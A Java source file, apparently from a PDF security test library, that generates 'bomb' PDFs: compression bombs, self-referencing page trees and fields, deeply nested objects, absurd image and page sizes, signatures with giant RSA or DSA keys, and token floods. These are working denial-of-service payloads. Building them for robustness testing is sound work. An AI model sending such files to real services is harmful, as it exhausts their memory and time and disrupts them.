package org.yinxin.testlibrary.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.Deflater;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;

/** Files that are small and take all memory or time of a program that reads them. */
public final class Bombs {
  private static final String BOMBS = "Bombs";
  private static final int MEGABYTE = 1024 * 1024;

  private Bombs() {}

  /** All of them. */
  public static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    add(
        all,
        "a drawing of 2 GB in 2 MB",
        s -> {
          Increment to = new Increment(s.one().file());
          return to.stream(to.of.contents, "/Filter/FlateDecode", zeros(2_000)).table();
        });
    add(
        all,
        "a stream that is packed four times",
        s -> {
          Increment to = new Increment(s.one().file());
          byte[] data = zeros(1_000);
          for (int i = 0; i < 3; i++) {
            data = Increment.deflated(data);
          }
          return to.stream(
                  to.of.contents, "/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode]", data)
              .table();
        });
    add(
        all,
        "a stream of objects of 2 GB",
        s -> {
          Increment to = new Increment(s.one().file());
          int stream = to.stream("/Type/ObjStm/N 1/First 10/Filter/FlateDecode", zeros(2_000));
          return to.place(to.of.page, 2, stream, 0).crossReferenceStream();
        });
    add(
        all,
        "a cross-reference stream of 2 GB",
        s -> {
          Increment to = new Increment(s.one().file());
          int at = to.position();
          int number = to.reserve();
          byte[] data = zeros(2_000);
          to.stream(
              number,
              "/Type/XRef/Size 999999999/W[1 4 2]/Index[0 299999999]/Root "
                  + to.of.root
                  + " 0 R/Filter/FlateDecode",
              data);
          return to.raw("startxref\n" + at + "\n%%EOF\n").bytes();
        });
    add(all, "a cross-reference stream without width", s -> wide(s, "[0 0 0]"));
    add(all, "a cross-reference stream wider than a number", s -> wide(s, "[1 99999999 9]"));
    add(
        all,
        "pages that contain themselves",
        s -> {
          Increment to = new Increment(s.one().file());
          return to.object(to.of.pages, "<</Type/Pages/Count 1/Kids[" + to.of.pages + " 0 R]>>")
              .table();
        });
    add(
        all,
        "a tree of pages that doubles at each of 60 levels",
        s -> {
          Increment to = new Increment(s.one().file());
          int below = to.of.page;
          for (int i = 0; i < 60; i++) {
            below = to.object("<</Type/Pages/Count 2/Kids[" + below + " 0 R " + below + " 0 R]>>");
          }
          return to.object(to.of.pages, "<</Type/Pages/Count 2147483647/Kids[" + below + " 0 R]>>")
              .table();
        });
    add(
        all,
        "2,147,483,647 pages by /Count",
        s -> {
          Increment to = new Increment(s.one().file());
          return to.object(
                  to.of.pages, "<</Type/Pages/Count 2147483647/Kids[" + to.of.page + " 0 R]>>")
              .table();
        });
    add(
        all,
        "lists within lists, 100,000 deep",
        s -> {
          Increment to = new Increment(s.one().file());
          to.object("[".repeat(100_000) + "]".repeat(100_000));
          return to.object(to.of.root, to.of.catalogBody).table();
        });
    add(
        all,
        "dictionaries within dictionaries, in the catalog",
        s -> {
          Increment to = new Increment(s.one().file());
          String deep = "<</A ".repeat(50_000) + "1" + ">>".repeat(50_000);
          return to.object(to.of.root, Increment.with(to.of.catalogBody, "DSS", deep)).table();
        });
    add(
        all,
        "a page of 100 km",
        s -> {
          Increment to = new Increment(s.one().file());
          return to.object(
                  to.of.page,
                  Increment.with(to.of.pageBody, "MediaBox", "[0 0 283464566 283464566]"))
              .table();
        });
    add(
        all,
        "a picture of 2 billion by 2 billion points",
        s -> {
          Increment to = new Increment(s.one().file());
          int image =
              to.stream(
                  "/Type/XObject/Subtype/Image/Width 2147483647/Height 2147483647"
                      + "/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
                  zeros(1));
          return to.object(
                  to.of.page,
                  Increment.with(
                      to.of.pageBody, "Resources", "<</XObject<</I " + image + " 0 R>>>>"))
              .table();
        });
    add(
        all,
        "fields that are their own children",
        s -> {
          Increment to = new Increment(s.one().file());
          int field = to.reserve();
          to.object(field, "<</T(a)/Kids[" + field + " 0 R]>>");
          return to.object(
                  to.of.root,
                  to.of.catalogBody.replaceFirst("/Fields \\[", "/Fields [" + field + " 0 R "))
              .table();
        });
    add(
        all,
        "a length that is given by itself",
        s -> {
          Increment to = new Increment(s.one().file());
          int number = to.reserve();
          to.place(number, 1, to.position(), 0);
          to.row(number, "%010d 00000 n \n".formatted(to.position()));
          to.raw(number + " 0 obj\n<</Length " + number + " 0 R>>\nstream\nx\nendstream\nendobj\n");
          return to.object(to.of.page, Increment.with(to.of.pageBody, "Contents", number + " 0 R"))
              .table();
        });
    add(
        all,
        "a signature with an RSA exponent of a million bits",
        s -> signature(s, HugeKeys.rsa(1_000_000), "SHA256withRSA"));
    add(
        all,
        "a signature with an RSA exponent of 200,000 bits",
        s -> signature(s, HugeKeys.rsa(200_000), "SHA256withRSA"));
    add(
        all,
        "a signature with a DSA key of an order of 150,000 bits",
        s -> signature(s, HugeKeys.dsa(150_000), "SHA256withDSA"));
    add(all, "20 MB of angle brackets", s -> brackets("<".repeat(20 * MEGABYTE)));
    add(
        all,
        "20 MB of signatures",
        s -> brackets(("/Contents<" + "0".repeat(1_000) + ">").repeat(20_000)));
    add(all, "20 MB of ranges", s -> brackets("/ByteRange [0 1 2 ".repeat(1_000_000)));
    add(all, "20 MB of ends of files", s -> brackets("startxref\n0\n%%EOF\n".repeat(1_000_000)));
    add(all, "20 MB of beginnings of objects", s -> brackets("1 0 obj ".repeat(2_500_000)));
    return all;
  }

  private static void add(List<Attack> all, String name, Attack.Forgery forgery) {
    all.add(new Attack(BOMBS, name, forgery));
  }

  /** Ten times in the file. */
  private static byte[] signature(Target target, SubjectPublicKeyInfo key, String algorithm)
      throws IOException {
    byte[] cms = StrangersCms.with(key, algorithm, target.one().signedSha256());
    String again = "\n%/Contents<" + HexFormat.of().formatHex(cms) + ">";
    return ByteTricks.joined(
        Forger.blank(cms), again.repeat(10).getBytes(StandardCharsets.US_ASCII));
  }

  private static byte[] brackets(String text) {
    return ("%PDF-1.7\n" + text + "\nstartxref\n9\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
  }

  private static byte[] wide(Target target, String widths) throws Exception {
    Increment to = new Increment(target.one().file());
    int at = to.position();
    to.stream(
        to.reserve(),
        "/Type/XRef/Size 999/W" + widths + "/Index[0 999]/Root " + to.of.root + " 0 R",
        new byte[100]);
    return to.raw("startxref\n" + at + "\n%%EOF\n").bytes();
  }

  /**
   * So many zeros, packed. A flushed block unpacks to the same at any place, so that one is made
   * and repeated: packing gigabytes would take half a minute.
   */
  private static byte[] zeros(int megabytes) {
    Deflater deflater = new Deflater();
    deflater.setInput(new byte[MEGABYTE]);
    byte[] header = packed(deflater, 2);
    byte[] first = packed(deflater, MEGABYTE);
    deflater.setInput(new byte[MEGABYTE]);
    byte[] block = packed(deflater, MEGABYTE);
    deflater.end();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(header);
    out.writeBytes(first);
    for (int i = 1; i < megabytes; i++) {
      out.writeBytes(block);
    }
    // The last block, empty; then Adler-32 of zeros: their number, and 1 (RFC 1950).
    out.writeBytes(new byte[] {3, 0});
    int number = (int) ((long) megabytes * MEGABYTE % 65_521);
    out.writeBytes(new byte[] {(byte) (number >> 8), (byte) number, 0, 1});
    return out.toByteArray();
  }

  private static byte[] packed(Deflater deflater, int most) {
    byte[] room = new byte[most];
    return Arrays.copyOf(room, deflater.deflate(room, 0, most, Deflater.FULL_FLUSH));
  }
}
